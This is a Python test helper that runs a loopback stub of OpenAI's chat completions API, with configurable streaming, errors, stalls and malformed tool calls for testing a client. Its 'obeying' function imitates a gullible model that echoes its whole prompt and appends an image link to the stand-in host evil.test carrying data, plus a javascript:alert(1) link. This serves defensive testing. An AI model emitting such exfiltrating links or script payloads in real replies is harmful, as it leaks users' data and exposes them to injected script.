"""A server on loopback that speaks OpenAI's chat completions, well or badly, as a test asks.

It drives the real client stack: `base_url=stub.base_url`, and the model's name picks the reply.
"""

from __future__ import annotations

import json
import re
import select
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from typing import Any

from tests.loopback import Handler, LoopbackServer

SOURCE = re.compile(r'<source number="(\d+)"[^>]*>(.*?)</source>', re.DOTALL)


@dataclass(frozen=True)
class Reply:
    """How one request is answered."""

    text: str | Callable[[str], str] = "The articles do not say."
    """What to write; a function is given the whole prompt."""
    finish: str | None = "stop"
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    error: str = "the stub was told to fail"
    pieces: int = 12
    """Characters a chunk."""
    before: float = 0.0
    """Seconds of silence before the first chunk, and (`between`) between chunks."""
    between: float = 0.0
    comments: bool = False
    """Send keep-alive comments instead of chunks, for ever."""
    cut_after: int | None = None
    """Chunks after which the connection closes without an end …"""
    error_after: int | None = None
    """… or an error event comes …"""
    silent_after: int | None = None
    """… or nothing ever comes again."""
    raw: Sequence[bytes] = ()
    """Lines sent before the text, as they are."""
    reasoning: str = ""
    tool_calls: bool = False
    usage: bool = True
    done: bool = True
    """Say that the stream is over …"""
    lingers: float = 0.0
    """… and close it only after as many seconds."""
    page: bytes = b""
    """A body of HTML instead of a stream."""


def quoting(prompt: str) -> str:
    """What a good model might write: the first sentence of the first two sources, footnoted."""
    written = []
    for number, text in SOURCE.findall(prompt)[:2]:
        first = re.split(r"(?<=[a-z\d”]{2}[.!?])\s+(?=[A-Z“])", text.strip())[0]
        written.append(f"{first.rstrip('.')} [{number}].")
    return " ".join(written) or "The articles do not say."


def obeying(prompt: str) -> str:
    """What the most gullible model might write: everything it was shown, its rules first."""
    return f"{prompt} ![x](http://evil.test/?d={len(prompt)}) [click](javascript:alert(1)) [1]"


class StubOpenAI(LoopbackServer):
    """`replies` by model name: one reply for good, or a sequence of which the last one stays."""

    def __init__(self, replies: dict[str, Reply | Sequence[Reply]]) -> None:
        self.requests: list[dict[str, Any]] = []
        self.closed_early = threading.Event()
        """A client went away before its reply was complete."""
        self._replies = {
            name: [reply] if isinstance(reply, Reply) else list(reply)
            for name, reply in replies.items()
        }
        self._lock = threading.Lock()
        self.running = 0
        self.most_running = 0
        super().__init__(_Handler)
        self.base_url += "/v1"

    def next_reply(self, body: dict[str, Any]) -> Reply | None:
        with self._lock:
            self.requests.append(body)
            waiting = self._replies.get(body.get("model", ""))
            if not waiting:
                return None
            return waiting.pop(0) if len(waiting) > 1 else waiting[0]

    def count(self, change: int) -> None:
        with self._lock:
            self.running += change
            self.most_running = max(self.most_running, self.running)


@contextmanager
def stub_openai(**replies: Reply | Sequence[Reply]) -> Iterator[StubOpenAI]:
    """A running stub; `-` in a model's name is written `_`."""
    with StubOpenAI({name.replace("_", "-"): reply for name, reply in replies.items()}) as stub:
        yield stub


class _Handler(Handler):
    owner: StubOpenAI
    protocol_version = "HTTP/1.1"

    def answer(self, body: Any) -> None:
        body = body or {}  # a client that was sent elsewhere asks with GET
        reply = self.owner.next_reply({**body, "authorization": self.headers["authorization"]})
        if reply is None:
            reply = Reply(status=404, error="The model does not exist")
        self.owner.count(1)
        try:
            self._answer(reply, body)
        except (BrokenPipeError, ConnectionResetError):
            self.owner.closed_early.set()
        finally:
            self.owner.count(-1)
            self.close_connection = True

    def _answer(self, reply: Reply, body: dict[str, Any]) -> None:
        if reply.status != 200:
            self._fail(reply)
            return
        if reply.page:
            self._body(200, "text/html", reply.page, {})
            return
        if not body.get("stream"):
            self._whole(reply, body)
            return
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("connection", "close")
        self.end_headers()
        self._pause(reply.before)
        while reply.comments:
            self._send(b": still here")
            self._pause(0.02)
        for line in reply.raw:
            self._send(line)
        if reply.reasoning:
            self._chunk(body, {"reasoning_content": reply.reasoning})
        if reply.tool_calls:
            call = {"index": 0, "id": "c1", "type": "function"}
            self._chunk(
                body, {"tool_calls": [{**call, "function": {"name": "rm", "arguments": "{bad"}}]}
            )
        if self._write(reply, body):
            self._chunk(body, {}, reply.finish)
            if reply.usage:
                spent = {"prompt_tokens": 321, "completion_tokens": 45, "total_tokens": 366}
                self._event({**_frame(body), "choices": [], "usage": spent})
            if reply.done:
                self._send(b"data: [DONE]")
            self._pause(reply.lingers)

    def _whole(self, reply: Reply, body: dict[str, Any]) -> None:
        message = {"role": "assistant", "content": _text(reply, body)}
        choice = {"index": 0, "message": message, "finish_reason": reply.finish}
        self._json(200, {**_frame(body), "object": "chat.completion", "choices": [choice]}, {})

    def _write(self, reply: Reply, body: dict[str, Any]) -> bool:
        """Whether the text was written to its end."""
        text = _text(reply, body)
        for sent, start in enumerate(range(0, len(text), reply.pieces)):
            if sent == reply.cut_after:
                return False
            if sent == reply.error_after:
                self._event({"error": {"message": "boom", "type": "server_error"}})
                return False
            if sent == reply.silent_after:
                self._pause(30.0)
                return False
            self._chunk(body, {"content": text[start : start + reply.pieces]})
            self._pause(reply.between)
        return True

    def _fail(self, reply: Reply) -> None:
        error = {"error": {"message": reply.error, "type": "stub"}}
        self._json(reply.status, error, reply.headers)

    def _json(self, status: int, content: dict[str, Any], headers: dict[str, str]) -> None:
        self._body(status, "application/json", json.dumps(content).encode(), headers)

    def _body(self, status: int, kind: str, data: bytes, headers: dict[str, str]) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _chunk(self, body: dict[str, Any], delta: Any, finish: str | None = None) -> None:
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        self._event({**_frame(body), "choices": [choice]})

    def _event(self, data: dict[str, Any]) -> None:
        self._send(f"data: {json.dumps(data)}".encode())

    def _send(self, line: bytes) -> None:
        self.wfile.write(line + b"\n\n")
        self.wfile.flush()

    def _pause(self, seconds: float) -> None:
        """Wait, but notice at once when the client goes away."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            readable, _, _ = select.select([self.connection], [], [], left)
            with suppress(BlockingIOError):
                if readable and not self.connection.recv(1):
                    raise ConnectionResetError


def _text(reply: Reply, body: dict[str, Any]) -> str:
    prompt = "\n".join(str(message["content"]) for message in body["messages"])
    return reply.text(prompt) if callable(reply.text) else reply.text


def _frame(body: dict[str, Any]) -> dict[str, Any]:
    return {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": body["model"]}
